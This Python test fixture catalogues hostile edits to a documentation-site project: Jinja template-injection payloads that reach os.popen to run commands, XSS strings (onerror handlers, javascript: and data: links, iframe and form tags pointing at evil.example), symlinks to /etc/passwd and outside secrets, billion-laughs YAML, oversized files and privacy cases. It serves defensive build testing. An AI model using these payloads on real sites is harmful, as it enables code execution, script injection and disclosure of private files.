"""A catalogue of hostile input: what an outsider with edit rights would try, each a small change to a copy of the
project. tests/checks/test_hostile.py checks and builds every copy and asserts that no command ran, nothing live
reached the built HTML, no file from outside the project was published, the run ended in time, without a
traceback, and (except the privacy family, which builds) the message names the file and the line.

Payloads may name `{canary}` (a file the payload tries to create) and `{secret}` (a file outside the project whose
content must never be published); both live in the folder beside the project copy.

Families: template injection in pages, markup in data, HTML tricks in pages, symbolic links, YAML aliases and
nesting, oversized files, small groups in the statistics.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SECRET = "SECRET-OUTSIDE-THE-REPOSITORY-7f3a"
NO_CONSENT = "未经同意的心得-不得公开-91c2"
WITH_CONSENT = "经本人同意公开的心得-示例-5d0e"

GLOSSARY = "glossary/weixieshang.yaml"
LIST = "reading_lists/development.yaml"
POLICY = "docs/policies/three-activities-opinion.md"
HOME = "docs/index.md"
RECORDS = "data/reading_records.csv"
MEMBERS = "data/members.csv"


@dataclass(frozen=True)
class Hostile:
    id: str
    family: str
    story: str
    apply: Callable[[Path, Path], None]  # (project, outside)
    file: str  # the file the message names
    line: str | None  # a text on the line the message names (found after the change), or None: the whole file
    says: str  # a fragment of the message
    build: str = "fails"  # "fails"; "escapes": builds, the payload only as text; "privacy": check and build pass


def fill(text: str, outside: Path) -> str:
    return text.replace("{canary}", str(outside / "canary")).replace("{secret}", str(outside / "secret.txt"))


def append(file: str, text: str) -> Callable[[Path, Path], None]:
    def apply(project: Path, outside: Path) -> None:
        path = project / file
        path.write_text(path.read_text(encoding="utf-8") + fill(text, outside), encoding="utf-8")

    return apply


def replace(file: str, old: str, new: str) -> Callable[[Path, Path], None]:
    def apply(project: Path, outside: Path) -> None:
        path = project / file
        text = path.read_text(encoding="utf-8")
        assert old in text, f"the hostile catalogue is out of date: {old!r} is no longer in {file}"
        path.write_text(text.replace(old, fill(new, outside), 1), encoding="utf-8")

    return apply


def write(file: str, content: str | Callable[[], bytes]) -> Callable[[Path, Path], None]:
    def apply(project: Path, outside: Path) -> None:
        path = project / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content() if callable(content) else fill(content, outside).encode("utf-8"))

    return apply


def link(file: str, target: str) -> Callable[[Path, Path], None]:
    """A symbolic link in the project to `target` (a path under the outside folder, or an absolute one)."""

    def apply(project: Path, outside: Path) -> None:
        path = project / file
        if path.exists() or path.is_symlink():
            path.unlink()
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target if target.startswith("/") else outside / target, path)

    return apply


def page(text: str) -> Callable[[Path, Path], None]:
    return append(HOME, "\n\n" + text + "\n")


def _page_case(id: str, family: str, story: str, payload: str, says: str) -> Hostile:
    return Hostile(id, family, story, page(payload), HOME, payload.split("\n")[-1], says)  # the message: its last line


POPEN = "os.popen('touch {canary}').read()"

TEMPLATE = [
    _page_case("tpl-mro", "template", "类层次找子类", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "取属性"),
    _page_case(
        "tpl-cycler", "template", "经 cycler 取全局变量", "{{ cycler.__init__.__globals__." + POPEN + " }}", "取属性"
    ),
    _page_case("tpl-config", "template", "读 MkDocs 配置对象", "{{ config.__class__ }}", "取属性"),
    _page_case(
        "tpl-lipsum",
        "template",
        "经 lipsum 取 os",
        "{{ lipsum.__globals__['os'].popen('touch {canary}') }}",
        "写法不允许",
    ),
    _page_case("tpl-self", "template", "模板自身的上下文", "{{ self._TemplateReference__context }}", "取属性"),
    _page_case(
        "tpl-for",
        "template",
        "用循环遍历子类",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "循环",
    ),
    _page_case("tpl-set", "template", "赋值", "{% set x = cycler.__init__ %}{{ x }}", "赋值"),
    _page_case("tpl-include", "template", "包含机器上的文件", "{% include '{secret}' %}", "include"),
    _page_case("tpl-import", "template", "导入模板", "{% import 'main.html' as m %}", "import"),
    _page_case(
        "tpl-filter-attr",
        "template",
        "attr 过滤器取属性",
        "{{ reading_list('development')|attr('__class__') }}",
        "过滤器",
    ),
    _page_case("tpl-arg-expression", "template", "宏参数里取属性", "{{ reading_list(config.site_name) }}", "参数"),
    _page_case("tpl-power", "template", "超大乘方让生成卡住", "{{ 9**9**9**9 }}", "运算"),
    _page_case("tpl-repeat", "template", "超长字符串耗尽内存", "{{ 'x' * 999999999999 }}", "运算"),
    _page_case("tpl-macro-def", "template", "定义宏", "{% macro m() %}{{ cycler }}{% endmacro %}", "定义宏"),
    _page_case("tpl-if", "template", "条件", "{% if config %}{{ config }}{% endif %}", "条件"),
    _page_case("tpl-format", "template", "格式化字符串取属性", "{{ '{0.__class__}'.format(config) }}", "取属性"),
    Hostile(
        "tpl-title",
        "template",
        "页面标题里写模板",
        replace(HOME, "---\n", '---\ntitle: "{{ cycler.__init__.__globals__.' + POPEN + ' }}"\n'),
        HOME,
        "title:",
        "取属性",
    ),
]

DATA = [
    Hostile(
        "data-template",
        "data",
        "释义里写模板，想让它被执行",
        replace(GLOSSARY, "  在“1+3+N”", "  {{ cycler.__init__.__globals__." + POPEN + " }}在“1+3+N”"),
        GLOSSARY,
        "在“1+3+N”",
        "花括号",
        "escapes",
    ),
    Hostile(
        "data-attr-list",
        "data",
        "释义段落后加属性列表 onclick",
        replace(GLOSSARY, "  “微协商”与“小讲堂”", "  说明 { onclick=alert(1) }\n\n  “微协商”与“小讲堂”"),
        GLOSSARY,
        "说明 { onclick",
        "脚本属性",
        "escapes",
    ),
    Hostile(
        "data-attr-list-colon",
        "data",
        "推荐理由后加 {: onmouseover }",
        replace(LIST, "    why: 汇集", "    why: >-\n      见下文{: onmouseover=alert(1) }汇集"),
        LIST,
        "见下文{: onmouseover",
        "onmouseover",
        "escapes",
    ),
    Hostile(
        "data-js-upper",
        "data",
        "大写的 JAVASCRIPT: 链接",
        replace(LIST, "    why: 收录习近平同志", "    why: 大写[说明](JAVASCRIPT:alert(1))。收录习近平同志"),
        LIST,
        "why: 大写",
        "链接",
        "escapes",
    ),
    Hostile(
        "data-js-entity",
        "data",
        "用实体编码的 javascript: 链接",
        replace(LIST, "    why: 按专题", "    why: 实体[说明](&#106;avascript:alert(1))。按专题"),
        LIST,
        "why: 实体",
        "链接",
        "escapes",
    ),
    Hostile(
        "data-data-url",
        "data",
        "data: 链接",
        replace(
            LIST,
            "    why: 系统摘编",
            "    why: 数据[说明](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)。系统摘编",
        ),
        LIST,
        "why: 数据",
        "链接",
        "escapes",
    ),
    Hostile(
        "data-img-onerror",
        "data",
        "简释里混进带 onerror 的图片",
        replace(GLOSSARY, "short: 依托", "short: <img src=x onerror=alert(1)>依托"),
        GLOSSARY,
        "short:",
        "HTML 标签",
        "escapes",
    ),
    Hostile(
        "data-svg-onload",
        "data",
        "书单简介里混进 SVG onload",
        replace(LIST, "  本书目选取", "  <svg onload=alert(1)>本书目选取"),
        LIST,
        "<svg onload",
        "HTML 标签",
        "escapes",
    ),
    Hostile(
        "data-policy-title",
        "data",
        "政策文件标题里跳出属性",
        replace(POLICY, "title: 关于更好", 'title: 关于"><a href=javascript:alert(1)>更好'),
        POLICY,
        "title:",
        "链接",
        "fails",
    ),
    Hostile(
        "data-heading-attr",
        "data",
        "书名后面加 { onclick } 想改标题",
        replace(
            LIST, "    title: 习近平谈治国理政（第三卷）", "    title: 习近平谈治国理政（第三卷） { onclick=alert(1) }"
        ),
        LIST,
        "{ onclick",
        "脚本属性",
        "escapes",
    ),
    Hostile(
        "data-notes-consented",
        "data",
        "同意公开的心得里粘贴 iframe",
        append(RECORDS, '2021-12-31,W0001,,一本好书,40,自学,,"读后<iframe src=javascript:alert(1)></iframe>",是\n'),
        RECORDS,
        "2021-12-31,W0001,,一本好书",
        "HTML 标签",
        "escapes",
    ),
]

HTML = [
    _page_case("html-upper-onerror", "html", "大写的 IMG ONERROR", "<IMG SRC=x ONERROR=alert(1)>", "onerror"),
    _page_case(
        "html-entity-js", "html", "实体编码的 javascript:", '<a href="&#106;avascript:alert(1)">点我</a>', "javascript"
    ),
    _page_case(
        "html-mixed-case-js", "html", "大小写混写的 javascript:", '<a href="JaVaScRiPt:alert(1)">点我</a>', "链接"
    ),
    _page_case("html-tab-js", "html", "javascript 中间夹 Tab", '<a href="java&#9;script:alert(1)">点我</a>', "链接"),
    _page_case("html-svg-script", "html", "SVG 里的 script", "<svg><script>alert(1)</script></svg>", "<svg>"),
    _page_case(
        "html-math",
        "html",
        "MathML 链接",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        "<math>",
    ),
    _page_case("html-iframe", "html", "嵌入别的网页", '<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    _page_case("html-object", "html", "object 嵌入", '<object data="https://evil.example/x.swf"></object>', "<object>"),
    _page_case("html-embed", "html", "embed 嵌入", '<embed src="https://evil.example/x.swf">', "<embed>"),
    _page_case(
        "html-data-img",
        "html",
        "data: 图片",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
        "data:",
    ),
    _page_case("html-slash-onclick", "html", "斜杠代替空格的 onclick", "<p/onclick=alert(1)>点我</p>", "onclick"),
    _page_case(
        "html-ontoggle",
        "html",
        "details 的 ontoggle",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "ontoggle",
    ),
    _page_case("html-base", "html", "base 改掉全站链接", '<base href="https://evil.example/">', "<base>"),
    _page_case(
        "html-meta-refresh",
        "html",
        "meta 跳转",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        "<meta>",
    ),
    _page_case("html-attr-list-onclick", "html", "段落属性列表 onclick", '点这里\n{: onclick="alert(1)" }', "onclick"),
    _page_case("html-attr-list-href", "html", "标题属性列表 href", '## 标题 { href="javascript:alert(1)" }', "href"),
    _page_case(
        "html-attr-list-style",
        "html",
        "属性列表 style",
        '文字 { style="background:url(javascript:alert(1))" }',
        "style",
    ),
    _page_case("html-md-link-entity", "html", "Markdown 链接里的实体编码", "[点我](&#x6A;avascript:alert(1))", "链接"),
    _page_case("html-md-reference", "html", "引用式链接定义", "[点我][x]\n\n[x]: javascript:alert(1)", "链接"),
    _page_case("html-form", "html", "表单", '<form action="https://evil.example/"><input name=p></form>', "<form>"),
]

LINKS = [
    Hostile(
        "link-docs-file",
        "symlink",
        "docs/ 里链接到机器上的文件",
        link("docs/leak.txt", "secret.txt"),
        "docs/leak.txt",
        None,
        "符号链接",
    ),
    Hostile(
        "link-etc-passwd",
        "symlink",
        "docs/ 里链接到 /etc/passwd",
        link("docs/assets/passwd.txt", "/etc/passwd"),
        "docs/assets/passwd.txt",
        None,
        "符号链接",
    ),
    Hostile(
        "link-docs-folder",
        "symlink",
        "docs/ 里链接到外面的文件夹",
        link("docs/outside", "."),
        "docs/outside",
        None,
        "符号链接",
    ),
    Hostile(
        "link-glossary",
        "symlink",
        "词条文件是指向外面的链接",
        link("glossary/leak.yaml", "secret.txt"),
        "glossary/leak.yaml",
        None,
        "符号链接",
    ),
    Hostile(
        "link-overrides",
        "symlink",
        "主题覆盖里链接到外面",
        link("overrides/partials/leak.html", "secret.txt"),
        "overrides/partials/leak.html",
        None,
        "符号链接",
    ),
    Hostile(
        "link-records", "symlink", "读书记录换成指向外面的链接", link(RECORDS, "secret.txt"), RECORDS, None, "符号链接"
    ),
]


def _laughs() -> str:
    lines = ['a: &a ["哈","哈","哈","哈","哈","哈","哈","哈","哈"]']
    for i in range(1, 10):
        prev, cur = chr(96 + i), chr(97 + i)
        lines.append(f"{cur}: &{cur} [" + ",".join([f"*{prev}"] * 9) + "]")
    return "\n".join(lines) + "\n"


YAML = [
    Hostile(
        "yaml-billion-laughs",
        "yaml",
        "词条文件里的“十亿笑声”",
        write("glossary/laughs.yaml", _laughs()),
        "glossary/laughs.yaml",
        "a: &a",
        "锚点",
    ),
    Hostile(
        "yaml-merge-key",
        "yaml",
        "书单用锚点和合并键",
        replace(LIST, "books:\n", "defaults: &d {publisher: 某出版社}\nbooks:\n"),
        LIST,
        "defaults: &d",
        "锚点",
    ),
    Hostile(
        "yaml-deep-flow",
        "yaml",
        "几万层方括号",
        write("glossary/deep.yaml", "term: " + "[" * 50_000 + "]" * 50_000 + "\n"),
        "glossary/deep.yaml",
        "term:",
        "层次太深",
    ),
    Hostile(
        "yaml-front-matter-alias",
        "yaml",
        "页面元数据里用别名",
        replace(HOME, "---\n", "---\nx: &x 1\ny: *x\n"),
        HOME,
        "x: &x 1",
        "锚点",
    ),
]

BIG = [
    Hostile(
        "big-yaml",
        "size",
        "50 MB 的词条文件",
        write("glossary/huge.yaml", lambda: b"term: " + b"x" * 50_000_000 + b"\n"),
        "glossary/huge.yaml",
        "term:",
        "太大",
    ),
    Hostile(
        "big-page",
        "size",
        "50 MB 的页面",
        write("docs/huge.md", lambda: b"# huge\n\n" + ("很长的一段话。" * 2_400_000).encode()),
        "docs/huge.md",
        None,
        "页面太长",
    ),
]


def _roster(members: int, consent_text: str | None = None) -> Callable[[Path, Path], None]:
    def apply(project: Path, outside: Path) -> None:
        from scripts import sample_data  # the generator itself: a county-sized roster of pseudonymous members

        for name, content in sample_data.build(members=members, year_totals={2020: members, 2021: members * 8}).items():
            (project / "data" / name).write_bytes(content)
        if consent_text is not None:
            rows = (project / MEMBERS).read_text(encoding="utf-8-sig").splitlines()[1:]
            first, second = [row.split(",")[0] for row in rows if int(row.split(",")[-1]) <= 2021][:2]
            with (project / RECORDS).open("a", encoding="utf-8") as records:
                records.write(f"2021-12-30,{first},,一本好书,40,自学,,{NO_CONSENT},\n")
                records.write(f"2021-12-31,{second},,一本好书,40,自学,,{consent_text},是\n")

    return apply


PRIVACY = [
    Hostile(
        "privacy-roster-200",
        "privacy",
        "县级 200 人，心得未经同意",
        _roster(200, WITH_CONSENT),
        RECORDS,
        None,
        "",
        "privacy",
    ),
    Hostile("privacy-roster-60", "privacy", "新界别很多、只有 60 名委员", _roster(60), RECORDS, None, "", "privacy"),
]

HOSTILE: list[Hostile] = TEMPLATE + DATA + HTML + LINKS + YAML + BIG + PRIVACY
